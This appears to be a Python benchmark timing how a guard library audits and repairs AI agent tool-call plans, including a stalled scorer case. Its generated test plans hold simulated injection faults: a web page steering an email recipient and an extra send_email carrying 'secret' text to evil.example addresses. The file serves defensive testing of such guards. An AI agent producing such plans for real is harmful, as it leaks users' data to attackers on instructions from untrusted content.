"""What audit and repair of a whole plan cost: 20 calls, one thread, with and without a stall.

The plans differ in values, in what is wrong with them (one to three of: an attacker's mail, a
limit above the policy, a foreign recipient among the user's own) and in where. Each is checked
once by the plain guard: decided on, repaired, decided on again, written to the ledger.
"""

from __future__ import annotations

import random
import time
from typing import Any, Literal

from gatling_guard import Guard
from gatling_guard.decision import Allowed, Decision, Held, Repaired
from gatling_guard.energy import STRUCTURAL
from gatling_guard.energy.facts import EnergyFacts
from gatling_guard.energy.types import Energy
from gatling_guard.pipeline import LearnedParts

CALLS, PLANS, WARM = 20, 200, 10
STALL = 5.0
"""Seconds for which the scorer says nothing."""
POLICY = {
    "version": 1,
    "tools": {"search_reports": {"arguments": {"properties": {"limit": {"maximum": 100}}}}},
}
SAID = "Read the reports and mail a summary to ann@corp.example and bo@corp.example."
Wrong = Literal["mail", "limit", "recipient"]
WRONGS: tuple[Wrong, ...] = ("mail", "limit", "recipient")

_TEXT = {"type": "string"}
_LIST = {"type": "array", "items": {"type": "string"}}
_TOOLS: tuple[tuple[str, str, dict[str, Any], list[str]], ...] = (
    ("read_report", "Read a report", {"path": _TEXT}, ["path"]),
    ("read_webpage", "Read a page of the web", {"url": _TEXT}, ["url"]),
    ("search_reports", "Search reports", {"query": _TEXT, "limit": {"type": "integer"}}, ["query"]),
    ("send_email", "Send an email", {"to": _LIST, "subject": _TEXT, "body": _TEXT}, ["to"]),
)


def guard(learned: Literal["off"] | LearnedParts = "off", **options: Any) -> Guard:
    """The plain guard with the tools of the plans, and one bound on an argument."""
    made = Guard(POLICY, learned=learned, **options)
    for name, description, properties, required in _TOOLS:
        schema = {"type": "object", "properties": properties, "required": required}
        made.register({"name": name, "description": description, "parameters": schema})
    return made


def bad_plan(number: int, calls: int = CALLS) -> dict[str, Any]:
    """A plan of so many calls, with one to three faults; the same for the same number."""
    rng = random.Random(f"latency/{number}")
    wrong = rng.sample(WRONGS, rng.randint(1, len(WRONGS)))
    nodes: list[dict[str, Any]] = []
    edges: list[dict[str, Any]] = []

    def add(tool: str, arguments: dict[str, Any], tier: int = 1) -> str:
        node = f"n{len(nodes)}"
        entry = {"node_id": node, "tool_name": tool, "arguments": arguments}
        nodes.append({**entry, "provenance_tier": tier})
        return node

    page = add("read_webpage", {"url": f"https://news{number}.example/a"}, 3)
    mails = 1 + ("mail" in wrong)
    while len(nodes) < calls - mails:
        at = len(nodes)
        if at % 5 == 4:
            limit = 50_000 if "limit" in wrong and at == 4 else rng.randint(1, 10)
            add("search_reports", {"query": f"topic {number} {at}", "limit": limit})
        else:
            add("read_report", {"path": f"/reports/{number}-{at}.txt"})
    to = ["ann@corp.example", "bo@corp.example"]
    if "recipient" in wrong:
        to.append(f"x{number}@evil.example")
    mail = add("send_email", {"to": to, "subject": "Summary", "body": f"Part {number}"})
    edges.append({"source": "n1", "target": mail, "argument": "/body"})
    if "recipient" in wrong:
        edges.append({"source": page, "target": mail, "argument": "/to/2"})
    if "mail" in wrong:
        evil = {"to": [f"y{number}@evil.example"], "subject": "Hi", "body": f"secret {number}"}
        node = add("send_email", evil)
        edges += [{"source": page, "target": node, "argument": "/to/0"},
                  {"source": "n2", "target": node, "argument": "/body"}]  # fmt: skip
    return {"nodes": nodes, "edges": edges}


def repair_of(decision: Decision) -> str:
    """Whether the plan was repaired, an offer was made, or neither."""
    if isinstance(decision, Repaired):
        return "repaired"
    return "offered" if isinstance(decision, Held) and decision.offer else decision.action


def timings(made: Guard, first: int = 0, plans: int = PLANS) -> tuple[list[float], list[str]]:
    """Seconds of audit and repair per plan, and what each came to."""
    times, came = [], []
    for number in range(first, first + plans):
        plan = bad_plan(number)
        start = time.perf_counter()
        decision = made.check(plan, instruction=SAID)
        times.append(time.perf_counter() - start)
        assert not isinstance(decision, Allowed), f"plan {number} has nothing wrong with it"
        came.append(repair_of(decision))
    return times, came


class Stalling:
    """Scores the calls of the plan itself, and stalls on what a repair makes of them."""

    def __init__(self, calls: int = CALLS) -> None:
        self._left = calls

    def __call__(self, facts: EnergyFacts) -> Energy:
        """As the exact structure, until it stalls."""
        self._left -= 1
        if self._left < 0:
            time.sleep(STALL)
        return STRUCTURAL(facts)


def stalled_ms() -> tuple[float, str]:
    """Milliseconds of a check whose repair hangs in the scorer, and what it came to."""
    made = guard(composite=Stalling())
    start = time.perf_counter()
    decision = made.check(bad_plan(1), instruction=SAID)
    return 1000 * (time.perf_counter() - start), repair_of(decision)


if __name__ == "__main__":
    import json
    from collections import Counter

    for learned in ("off", "auto"):
        subject = guard(learned)
        timings(subject, 10_000, WARM)
        found, outcomes = timings(subject)
        found.sort()
        print(learned, json.dumps({
            "p50_ms": round(1000 * found[len(found) // 2], 2),
            "p95_ms": round(1000 * found[int(0.95 * len(found))], 2),
            "most_ms": round(1000 * found[-1], 2), "came_to": Counter(outcomes),
        }))  # fmt: skip
    print("stalled", stalled_ms())
